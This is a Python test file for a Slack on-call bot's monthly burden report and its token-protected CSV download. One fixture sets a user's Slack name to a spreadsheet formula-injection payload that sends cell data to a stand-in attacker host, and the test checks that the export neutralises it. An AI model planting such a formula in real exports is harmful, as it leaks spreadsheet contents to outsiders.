"""The burden report end to end (SPEC § Schedules and escalation policies): `rotation report` through signed commands,
and its CSV through the HTTP route behind a page link — parsed back, in another month, refused without a link or
with a bad month, a Slack name that starts a formula neutralised, ONCALL_RATES' amounts. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from urllib.parse import urlsplit

from bot.http.tokens import page_token
from bot.views.burden import HEADER
from tests.test_fairness import two_pages_and_a_cover
from tests.test_paging import with_rotation

RATES = "weekday=0,offhours=1.5,weekend=3,holiday=4"
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"payroll")'


async def november(bot) -> None:
    """The rotation from Wednesday 2026-11-25 noon (UTC team; U0A primary, U0B secondary, U0C tertiary all month),
    two pages to U0A (one at 02:00), U0C covering U0A on Friday 09:00–17:00, U0B keeping US holidays (Thanksgiving
    on Thursday the 26th), U0C named by Slack as a formula; then the clock on 2026-12-16 noon."""
    await with_rotation(bot)
    bot.fake.add_user("U0C", tz="UTC", name=EVIL)
    await bot.runtime.services.people.refresh(["U0C"])
    _, body, _ = await bot.slack.command("me holidays US", user="U0B")
    assert body.startswith("Done"), body
    await two_pages_and_a_cover(bot)


def sections(body: str) -> str:
    return "\n".join(b["text"]["text"] for b in json.loads(body)["blocks"] if b["type"] == "section")


def csv_link(body: str) -> str:
    context = " ".join(e["text"] for b in json.loads(body)["blocks"] if b["type"] == "context" for e in b["elements"])
    url = re.search(r"<([^|>]+)\|Download as CSV>", context)
    assert url, context
    parts = urlsplit(url[1])
    return f"{parts.path}?{parts.query}"


async def fetch(bot, path: str) -> tuple[int, str, dict]:
    async with bot.slack.session.get(f"{bot.url}{path}") as response:
        return response.status, (await response.read()).decode("utf-8-sig"), dict(response.headers)


def rows(text: str) -> dict[str, dict[str, str]]:
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == HEADER and all(len(row) == len(HEADER) for row in table)
    return {row[3]: dict(zip(HEADER, row, strict=True)) for row in table[1:]}


async def test_the_report_in_slack_and_as_csv(make_bot):
    bot = await make_bot(oncall_rates=RATES)
    await november(bot)
    status, body, _ = await bot.slack.command("rotation report payments 2026-11", user="U0B", channel="C0GENERAL")
    answer = json.loads(body)
    assert status == 200 and answer["text"] == "Burden on payments in 2026-11", body
    assert answer.get("response_type", "ephemeral") == "ephemeral"
    text = sections(body)
    # 132 hours from Wednesday noon to the month's end: 29 business, 55 outside, 48 weekend; U0C took 8 of U0A's.
    assert ("<@U0A> — *124.0 h* on call · pages 2 (1 outside business hours) · median to acknowledge 4m · owed "
            "*226.50*") in text
    assert "primary 124.0 h: business 21.0 · outside business hours 55.0 · weekend 48.0 · holiday 0.0" in text
    assert "secondary 132.0 h: business 21.0 · outside business hours 39.0 · weekend 48.0 · holiday 24.0" in text
    assert "<@U0B> — *132.0 h* on call · pages 0 · median to acknowledge – · owed *298.50*" in text
    assert "<@U0C> — *132.0 h* on call" in text and "primary 8.0 h: business 8.0 ·" in text, \
        "covering while tertiary: two roles, the hours paid once"

    status, csv_text, headers = await fetch(bot, csv_link(body))
    assert status == 200, csv_text
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"] == 'attachment; filename="payments-2026-11.csv"'
    assert csv_text.count("\r\n") == 4 and "\n" not in csv_text.replace("\r\n", "")
    found = rows(csv_text)
    a, b, c = found["U0A"], found["U0B"], found["U0C"]
    assert (a["rotation"], a["month"], a["person"]) == ("payments", "2026-11", "U0A")
    assert (a["primary_business_hours"], a["primary_outside_business_hours"], a["primary_weekend_hours"],
            a["primary_holiday_hours"], a["on_call_hours"]) == ("21.0", "55.0", "48.0", "0.0", "124.0")
    assert (a["pages"], a["pages_outside_business_hours"], a["median_minutes_to_acknowledge"]) == ("2", "1", "4.0")
    assert (a["amount_owed"], b["amount_owed"], c["amount_owed"]) == ("226.50", "298.50", "226.50")
    assert (b["secondary_holiday_hours"], b["median_minutes_to_acknowledge"]) == ("24.0", "")
    assert (c["primary_business_hours"], c["tertiary_business_hours"], c["on_call_business_hours"]) == \
        ("8.0", "29.0", "29.0")
    assert c["person"] == "'" + EVIL, "a Slack name that starts a formula is text in a spreadsheet"


async def test_other_months_and_what_is_refused(bot):
    await november(bot)
    _, body, _ = await bot.slack.command("rotation report payments", user="U0A", channel="C0PAY")
    assert json.loads(body)["text"] == "Burden on payments in 2026-12", body
    text = sections(body)
    assert "2026-12 so far" in text and "owed" not in text, "no ONCALL_RATES: no amounts"
    path = csv_link(body)
    assert "month=2026-12" in path
    status, csv_text, _ = await fetch(bot, path)
    december = rows(csv_text)
    assert status == 200 and {r["amount_owed"] for r in december.values()} == {""}
    primary = sum(float(r["primary_business_hours"]) + float(r["primary_outside_business_hours"])
                  + float(r["primary_weekend_hours"]) + float(r["primary_holiday_hours"]) for r in december.values())
    assert abs(primary - (15 * 24 + 12)) < 0.2, "every hour of the month so far has its primary"

    token = page_token(bot.runtime.settings.web_secret, bot.clock.now())
    status, csv_text, _ = await fetch(bot, f"/rotations/payments/report.csv?month=2026-10&token={token}")
    assert status == 200 and rows(csv_text) == {}, "before the rotation existed: the header alone"
    for month in ("2026-13", "2027-01", "x"):
        status, text, _ = await fetch(bot, f"/rotations/payments/report.csv?month={month}&token={token}")
        assert status == 400 and "YYYY-MM" in text, (month, status, text)
    status, _, _ = await fetch(bot, f"/rotations/nosuch/report.csv?month=2026-11&token={token}")
    assert status == 404
    expired = page_token(bot.runtime.settings.web_secret, bot.clock.now() - timedelta(hours=13))
    for query in ("month=2026-11", f"month=2026-11&token={expired}", "month=2026-11&token=forged.token"):
        status, text, _ = await fetch(bot, f"/rotations/payments/report.csv?{query}")
        assert status == 403 and "U0A" not in text, query
    status, page, _ = await fetch(bot, f"/rotations/payments?token={token}")
    assert status == 200 and "<html" in page.lower(), "the rotation's page is still its page"

    before = len(bot.fake.calls)
    for words, says in (("2026-13", "Name the month as `YYYY-MM`"), ("2099-01", "has not begun"),
                        ("2026-11 extra", "Use `/incident rotation report")):
        _, body, _ = await bot.slack.command(f"rotation report payments {words}", user="U0A", channel="C0PAY")
        assert says in body, body
    assert [c.method for c in bot.fake.calls[before:]] == [], "refused: nothing said, nothing changed"


def test_oncall_rates_stop_start_up_when_malformed():
    from bot.config import SettingsError, load_settings

    base = {"_env_file": None, "slack_bot_token": "xoxb-1", "slack_signing_secret": "s"}
    assert load_settings(**base).oncall_rates is None
    assert load_settings(**base, oncall_rates=RATES).oncall_rates.holiday == 4
    for bad in ("weekday=1,nights=2", "weekend=lots"):
        try:
            load_settings(**base, oncall_rates=bad)
        except SettingsError as exc:
            assert str(exc).startswith("setting ONCALL_RATES: "), exc
        else:
            raise AssertionError(f"{bad!r} was accepted")


async def test_a_layer_holds_its_window_in_the_report(bot):
    from tests.test_rotations import say

    await with_rotation(bot)  # Wednesday 2026-11-25 noon UTC
    for user in ("U0D", "U0E"):
        bot.fake.add_user(user, tz="Europe/Berlin")
    await bot.runtime.services.people.refresh(["U0D", "U0E"])
    await say(bot, "rotation layer add payments emea mon-fri 08:00-16:00 Europe/Berlin")
    await say(bot, "rotation layer roster payments emea <@U0D|d> <@U0E|e>")
    bot.clock.set(datetime(2026, 12, 2, 9, 0, tzinfo=UTC))
    _, body, _ = await bot.slack.command("rotation report payments 2026-11", user="U0A", channel="C0PAY")
    text = sections(body)
    # Berlin 13:00–16:00 on Wednesday, 08:00–16:00 Thursday, Friday and Monday: 27 h, 3 of them before 09:00.
    assert "primary 27.0 h: business 24.0 · outside business hours 3.0 · weekend 0.0 · holiday 0.0" in text, text
    assert "<@U0A> — *105.0 h* on call" in text and "<@U0C> — *105.0 h* on call" in text, text
